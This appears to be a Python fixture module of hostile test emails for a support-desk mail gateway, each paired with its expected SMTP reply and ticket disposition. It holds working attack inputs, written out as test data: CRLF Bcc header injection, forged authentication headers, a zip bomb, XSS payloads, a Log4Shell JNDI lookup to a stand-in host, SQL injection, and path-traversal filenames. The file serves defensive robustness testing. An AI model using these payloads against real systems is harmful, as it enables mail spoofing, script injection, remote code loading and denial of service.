"""Bad inputs that every release survives (SAFETY): a row a mail, each with bytes of its own making.

`{row}` in a mail's bytes becomes the row's name, so that authors differ and no breaker joins them. A row that needs to
know the desk (a case number, a token, a Message-ID of ours) is in ABUSE and is given them by the test.
"""

from __future__ import annotations

import base64
import io
import zipfile
from dataclasses import dataclass

FROM = b"From: Ola <{row}@hostile.example>\r\n"
TO = b"To: support@example.com\r\n"
ID = b"Message-ID: <{row}@hostile.example>\r\n"
DATE = b"Date: Mon, 23 Nov 2026 08:00:00 +0000\r\n"
TOP = FROM + TO + b"Subject: {row}\r\n" + ID + DATE
TEXT = b"\r\nThe printer is on fire.\r\n"


@dataclass(frozen=True)
class Bad:
    """`smtp`: what the reply begins with, over SMTP. `dispositions`: which of them fit; the rule is not asked."""

    name: str
    data: bytes
    smtp: str = "250"
    dispositions: tuple[str, ...] = ("new",)


def headers(*lines: bytes, keep: bytes = TOP) -> bytes:
    return keep + b"".join(line + b"\r\n" for line in lines) + TEXT


def instead(name: bytes, line: bytes) -> bytes:
    """The usual headers, with one line in place of the one so named; b'' leaves it out."""
    kept = [one for one in TOP.split(b"\r\n")[:-1] if not one.lower().startswith(name.lower() + b":")]
    return b"".join(one + b"\r\n" for one in [*kept, *([line] if line else [])]) + TEXT


def mime(content_type: bytes, body: bytes, *more: bytes) -> bytes:
    lines = b"".join(line + b"\r\n" for line in (b"MIME-Version: 1.0", b"Content-Type: " + content_type, *more))
    return TOP + lines + b"\r\n" + body


def multipart(*parts: bytes, subtype: bytes = b"mixed") -> bytes:
    body = b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + b"--b--\r\n"
    return mime(b"multipart/" + subtype + b'; boundary="b"', body)


def file(name: bytes, data: bytes = b"x", content_type: bytes = b"application/octet-stream") -> bytes:
    return (
        b"Content-Type: " + content_type + b"\r\nContent-Disposition: attachment; filename=" + name + b"\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(data).replace(b"\n", b"\r\n")
    )


PLAIN = b"Content-Type: text/plain\r\n\r\nHello.\r\n"


def folded(name: bytes, value: bytes, width: int = 900) -> bytes:
    """A long header in lines that mail servers take."""
    pieces = [value[at : at + width] for at in range(0, len(value), width)]
    return name + b": " + b"\r\n ".join(pieces)


def encoded_words(count: int) -> bytes:
    return b"Subject: " + b"\r\n ".join([b"=?utf-8?B?w6Y=?= =?utf-8?Q?=C3=B8?="] * (count // 2))


def nested(depth: int) -> bytes:
    opened = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(depth))
    return TOP + b"MIME-Version: 1.0\r\n" + opened + b"Content-Type: text/plain\r\n\r\ndeep\r\n"


def nested_messages(depth: int) -> bytes:
    return TOP + b"MIME-Version: 1.0\r\n" + b"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" * depth + TEXT


def zip_bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(20_000_000))
    return packed.getvalue()


def headers_rows() -> list[Bad]:
    answered = ("new", "held", "ignored")
    return [
        Bad("no-headers", TEXT),
        Bad("no-headers-and-no-blank-line", b"Just words.\r\n"),
        Bad("empty-mail", b""),
        Bad("only-line-ends", b"\r\n\r\n\r\n", dispositions=("duplicate",)),  # of the empty one, minutes before
        Bad("two-from", headers(b"From: Eva <eva@hostile.example>")),
        Bad("two-in-from", instead(b"From", b"From: a@hostile.example, b@hostile.example")),
        Bad("group-in-from", instead(b"From", b"From: Friends: a@hostile.example, b@hostile.example;")),
        Bad("empty-from", instead(b"From", b"From: ")),
        Bad("no-from", instead(b"From", b"")),
        Bad("quote-in-from", instead(b"From", b'From: "')),
        Bad("angle-in-from", instead(b"From", b"From: <")),
        Bad("forged-address-in-from", instead(b"From", b"From: alice@example.org)bob@evil.example")),
        Bad(
            "newline-in-from", instead(b"From", b"From: =?utf-8?Q?Ola=0ABcc:_eva@victim.example?= <nl@hostile.example>")
        ),
        Bad(
            "crlf-bcc-in-from",
            instead(b"From", b"From: =?utf-8?Q?Ola=0D=0ABcc:_eva@victim.example?= <crlf@hostile.example>"),
        ),
        Bad("crlf-bcc-in-subject", instead(b"Subject", b"Subject: =?utf-8?Q?x=0D=0ABcc:_eva@victim.example=0D=0A?=")),
        Bad("raw-cr-bcc-in-subject", instead(b"Subject", b"Subject: x\rBcc: eva@victim.example"), "250|5"),
        Bad(
            "raw-cr-bcc-in-from",
            instead(b"From", b"From: Ola\rBcc: eva@victim.example <rawcr@hostile.example>"),
            "250|5",
        ),
        Bad("nul-in-subject", instead(b"Subject", b"Subject: a\x00b"), "250|5"),
        Bad("vt-ff-nel-ls-in-subject", instead(b"Subject", "Subject: a\x0bb\x0cc\u0085d\u2028e\u2029f".encode())),
        Bad("encoded-controls", instead(b"Subject", b"Subject: =?utf-8?Q?a=00b=0Bc=C2=85d=E2=80=A8e=E2=80=AEf?=")),
        Bad("subject-of-1-mb", instead(b"Subject", folded(b"Subject", b"word " * 200_000))),
        Bad("subject-of-1-mb-in-one-line", instead(b"Subject", b"Subject: " + b"x" * 1_000_000), "500"),
        Bad("30000-encoded-words", instead(b"Subject", encoded_words(30_000))),
        Bad("raw-latin-1", instead(b"Subject", "Subject: Blåbærsyltetøy".encode("latin-1"))),
        Bad("raw-shift-jis", instead(b"Subject", "Subject: プリンター".encode("shift-jis"))),
        Bad("raw-utf-16", instead(b"Subject", b"Subject: " + "plain".encode("utf-16-be")), "250|5"),
        Bad("unknown-charset", instead(b"Subject", b"Subject: =?klingon?Q?Qapla=27?=")),
        Bad("charset-that-is-no-charset", instead(b"Subject", b"Subject: =?zlib?B?eJwDAAAAAAE=?= =?base64?Q?x?=")),
        Bad(
            "broken-encoded-words", instead(b"Subject", b"Subject: =?utf-8?B?w6Y=?=?=?= =?utf-8?X?y?= =?utf-8?B?*?= =?")
        ),
        Bad("no-message-id", instead(b"Message-ID", b"")),
        Bad("message-id-bracket", instead(b"Message-ID", b"Message-ID: <[>")),
        Bad("message-id-at", instead(b"Message-ID", b"Message-ID: <@>")),
        Bad("message-id-empty", instead(b"Message-ID", b"Message-ID: ")),
        Bad("message-id-of-10-kb", instead(b"Message-ID", b"Message-ID: <" + b"x" * 10_000 + b"@hostile.example>")),
        Bad("two-message-ids", headers(b"Message-ID: <second-{row}@hostile.example>")),
        Bad("references-of-1-mb", headers(folded(b"References", b"<a@b> " * 170_000))),
        Bad("references-of-junk", headers(b"References: <[> <> >< <<<<>>>> @ <@>", b"In-Reply-To: <[>")),
        Bad("date-in-the-year-0", instead(b"Date", b"Date: Mon, 00 Jan 0000 99:99:99 +9999")),
        Bad("date-in-the-year-99999", instead(b"Date", b"Date: Mon, 23 Nov 99999 08:00:00 +0000")),
        Bad("date-far-east", instead(b"Date", b"Date: Mon, 23 Nov 2026 08:00:00 +999999999")),
        Bad("date-not-one", instead(b"Date", "Date: yesterday, før lunsj".encode())),
        Bad("reply-to-elsewhere", headers(b"Reply-To: eva@victim.example")),
        Bad("reply-to-ourselves", headers(b"Reply-To: support@example.com")),
        Bad("reply-to-many", headers(b"Reply-To: a@victim.example, b@victim.example, c@victim.example")),
        Bad(
            "our-own-x-headers",
            headers(b"X-Mailgate-Loop: c261123001.abcdefgh.a" + b"a" * 20, b"X-Mailgate-Agent: kari"),
        ),
        *(
            Bad(f"forged-results-{n}", headers(b"Authentication-Results: " + line))
            for n, line in enumerate(
                (
                    b"mx.example.com; dmarc=pass header.from=hostile.example",
                    b"MX.EXAMPLE.COM; dkim=pass header.d=hostile.example",
                    b"localhost; auth=pass smtp.auth=kari@example.com",
                    b"; dmarc=pass",
                    b"mx.example.com 1; dmarc=pass (policy=reject) header.from=example.com",
                    b"(mx.example.com) mx.example.com; dmarc=pass",
                    b"mx.example.com;" + b" dmarc=pass;" * 5_000,
                    b'"mx.example.com"; dmarc="pass" header.from="hostile.example" ((((((((',
                )
            )
        ),
        Bad("100000-header-lines", TOP + b"X-A: b\r\n" * 100_000 + TEXT),
        Bad("mbox-from", b"From ola@hostile.example Mon Nov 23 08:00:00 2026\r\n" + headers()),
        Bad("colons-only", b":\r\n: x\r\n::\r\n" + headers()),
        Bad("continuation-first", b" continued\r\n\tfrom nowhere\r\n" + headers()),
        Bad("bare-line-feeds", headers().replace(b"\r\n", b"\n")),
        Bad(
            "101-received",
            b"Received: from a by b; Mon, 23 Nov 2026 08:00:00 +0000\r\n" * 101 + headers(),
            "554",
            ("ignored",),
        ),
        Bad("from-us", instead(b"From", b"From: support@example.com"), dispositions=("held",)),
        Bad("from-us-tagged", instead(b"From", b"From: support+x@example.com"), dispositions=("held",)),
        Bad("from-nobody", instead(b"From", b"From: no-reply@hostile.example")),
        Bad("auto-submitted-junk", headers(b"Auto-Submitted: ;;;(", b"Precedence: \xff\xfe"), dispositions=answered),
        Bad("list-mail", headers(b"List-Id: <x.hostile.example>", b"Precedence: bulk")),
        Bad("absent", headers(b"Auto-Submitted: auto-replied"), dispositions=("held",)),
    ]


def mime_rows() -> list[Bad]:
    deep_html = b"<div>\r\n" * 50_000 + b"deep" + b"</div>\r\n" * 50_000
    return [
        Bad("nested-10000", nested(10_000)),
        Bad("nested-messages-5000", nested_messages(5_000)),
        Bad("100000-parts", mime(b'multipart/mixed; boundary="b"', b"--b\r\n\r\nx\r\n" * 100_000 + b"--b--\r\n")),
        Bad("boundary-missing", mime(b"multipart/mixed", b"--b\r\n\r\nx\r\n--b--\r\n")),
        Bad("boundary-empty", mime(b'multipart/mixed; boundary=""', b"--\r\n\r\nx\r\n----\r\n")),
        Bad(
            "boundary-prefix-of-another",
            mime(
                b'multipart/mixed; boundary="b"',
                b'--b\r\nContent-Type: multipart/alternative; boundary="bb"\r\n\r\n'
                b"--bb\r\n\r\nx\r\n--bb--\r\n--b--\r\n",
            ),
        ),
        Bad("boundary-never-used", mime(b'multipart/mixed; boundary="b"', b"no boundary here\r\n")),
        Bad("unterminated", mime(b'multipart/mixed; boundary="b"', b"--b\r\n" + PLAIN)),
        Bad("charset-nul", mime(b'text/plain; charset="\x00"', b"x\r\n"), "250|5"),
        *(
            Bad(f"charset-{name.decode()}", mime(b"text/plain; charset=" + name, b"+ADw-script+AD4- \xe5\xe6\r\n"))
            for name in (
                b"klingon",
                b"base64",
                b"utf-7",
                b"unicode_escape",
                b"idna",
                b"undefined",
                b"zlib",
                b"utf-16",
                b"hex",
            )
        ),
        Bad("base64-junk", mime(b"text/plain", b"\xff*(&^%$#@!====\r\nx\r\n", b"Content-Transfer-Encoding: base64")),
        Bad(
            "quoted-printable-junk",
            mime(b"text/plain", b"=ZZ=\xff=\r\n=", b"Content-Transfer-Encoding: quoted-printable"),
        ),
        Bad("unknown-transfer-encoding", mime(b"text/plain", b"x\r\n", b"Content-Transfer-Encoding: x-klingon")),
        Bad("truncated-uuencode", mime(b"text/plain", b"begin 644 a.txt\r\nM\xff\xff\xff\r\n")),
        Bad("html-only", mime(b"text/html", b"<p>The printer</p><script>alert(1)</script>\r\n")),
        Bad("html-deep", mime(b"text/html", deep_html)),
        Bad("html-unclosed", mime(b"text/html", b"<a href='\r\n" * 20_000)),
        Bad("html-utf-16", mime(b"text/html; charset=utf-16", b"\xff\xfe<\0p\0>\0h\0i\0"), "250|5"),
        Bad("image-only", mime(b"image/png; name=x.png", b"iVBORw0KGgo=\r\n", b"Content-Transfer-Encoding: base64")),
        Bad(
            "attachment-only", mime(b"application/pdf; name=x.pdf", b"JVBERi0=\r\n", b"Content-Disposition: attachment")
        ),
        Bad("calendar", mime(b"text/calendar; method=REQUEST", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\n")),
        Bad("vcard", mime(b"text/vcard", b"BEGIN:VCARD\r\nFN:x\r\nEND:VCARD\r\n")),
        Bad(
            "smime",
            mime(b"application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m", b"MIAGCSqGSIb3DQEHA6CA\r\n"),
        ),
        Bad(
            "pgp",
            mime(
                b'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b"', b"--b\r\n\r\nVersion: 1\r\n"
            ),
        ),
        Bad(
            "winmail",
            multipart(PLAIN, file(b"winmail.dat", b"\x78\x9f\x3e\x22" + b"\xff" * 500, b"application/ms-tnef")),
        ),
        Bad("message-partial", mime(b'message/partial; id="x"; number=1; total=2', b"Subject: y\r\n\r\nz\r\n")),
        Bad(
            "external-body",
            mime(b'message/external-body; access-type=URL; URL="file:///etc/passwd"', b"Content-Type: x/y\r\n\r\n"),
        ),
        Bad("zip-bomb", multipart(PLAIN, file(b"a.zip", zip_bomb(), b"application/zip"))),
        Bad("polyglot", multipart(PLAIN, file(b"a.pdf.html.png", b"%PDF-1.4 <script>GIF89a\x89PNG", b"image/png"))),
        Bad("200-files-of-one-name", multipart(*[file(b"x.txt", b"%d" % n) for n in range(199)])),
        Bad("300-files", multipart(*[file(b"%d.txt" % n, b"%d" % n) for n in range(300)])),
        *(
            Bad(f"file-name-{n}", multipart(PLAIN, file(name)))
            for n, name in enumerate(
                (
                    b'"../../../etc/passwd"',
                    b'"C:\\\\windows\\\\system.ini"',
                    b'"=?utf-8?B?4oCLLmh0YWNjZXNz?="',
                    b'"a\x00b.txt"',
                    b"CON",
                    b'"=?utf-8?B?4oCuZ3BqLmV4ZQ==?="',
                    b'"' + b"x" * 5_000 + b'.txt"',
                    b'""',
                    b'"a\r\n Bcc: eva@victim.example"',
                    b"x; filename*=utf-8''%0D%0ABcc%3A%20eva%40victim.example",
                    b"x; filename*0*=utf-8''a%; filename*1=b; filename*99999999999=c",
                )
            )
        ),
        Bad("900-kb-in-one-line", mime(b"text/plain", b"x" * 900_000 + b"\r\n"), "500"),
        Bad("2-mb-of-text", mime(b"text/plain", b"The quick brown fox.\r\n" * 100_000)),
        Bad("2-mb-of-quotes", mime(b"text/plain", b"> > > On Monday x wrote:\r\n" * 80_000)),
        Bad("combining-marks", mime(b"text/plain; charset=utf-8", ("e" + "\u0301" * 500 + "\r\n").encode() * 1_000)),
        Bad("lone-surrogates", mime(b"text/plain; charset=utf-8", b"\xed\xa0\x80\xed\xbf\xbf x \xf4\x90\x80\x80\r\n")),
        Bad("nul-in-text", mime(b"text/plain", b"a\x00b\x00c\r\n"), "250|5"),
        Bad(
            "report-without-parts",
            mime(b"multipart/report; report-type=delivery-status; boundary=b", b""),
            dispositions=("held",),
        ),
        Bad(
            "report-of-junk",
            mime(
                b'multipart/report; report-type=delivery-status; boundary="b"',
                b"--b\r\nContent-Type: message/delivery-status\r\n\r\nFinal-Recipient: \xff\r\nStatus: 9.9.9\r\n--b--",
            ),
            dispositions=("held",),
        ),
        Bad("content-type-junk", mime(b";;;=/\xff", b"x\r\n")),
        Bad("content-type-endless", mime(b"text/plain; " + b"a=b; " * 3_000, b"x\r\n")),
    ]


TEMPLATES = ("{{7*7}}", "${jndi:ldap://x.example/a}", "%n%s%x", "'; DROP TABLE ticket; --", "{% raw %}", "<b>&amp;</b>")
XSS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext><script>alert(1)</script>",
    "<style>@import 'x'</style>",
    "<form action=//x><input name=p>",
    "<body onload=alert(1)>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src='cid:x' onload=alert(1)>",
    "<object data=//x>",
    "<embed src=//x>",
    "<base href=//x>",
    "<meta http-equiv=refresh>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<template><script>alert(1)</script></template>",
    "<video src=//x onerror=a()>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table background=//x>",
    "<link rel=stylesheet href=//x>",
)


def words_rows() -> list[Bad]:
    """What would be run, evaluated or shown if somebody forgot himself; in every field a mail has."""
    everywhere = [
        Bad(
            f"template-{n}",
            (
                f'From: "{text}" <template-{n}@hostile.example>\r\nTo: support@example.com\r\nSubject: {text}\r\n'
                f"Message-ID: <template-{n}@hostile.example>\r\nX-Other: {text}\r\nMIME-Version: 1.0\r\n"
                f'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n\r\n{text}\r\n--b\r\n'
                f"Content-Type: text/html\r\nContent-Disposition: attachment; filename*=utf-8''x{n}.html\r\n\r\n"
                f"{text}\r\n--b--\r\n"
            ).encode(),
        )
        for n, text in enumerate(TEMPLATES)
    ]
    return everywhere + [
        Bad(f"xss-{n}", mime(b"text/html; charset=utf-8", f"<p>Hello {text}</p>\r\n".encode()))
        for n, text in enumerate(XSS)
    ]


def _named(rows: list[Bad]) -> list[Bad]:
    return [Bad(row.name, row.data.replace(b"{row}", row.name.encode()), row.smtp, row.dispositions) for row in rows]


def all_rows() -> list[Bad]:
    rows = _named([*headers_rows(), *mime_rows(), *words_rows()])
    assert len({row.name for row in rows}) == len(rows)
    return rows
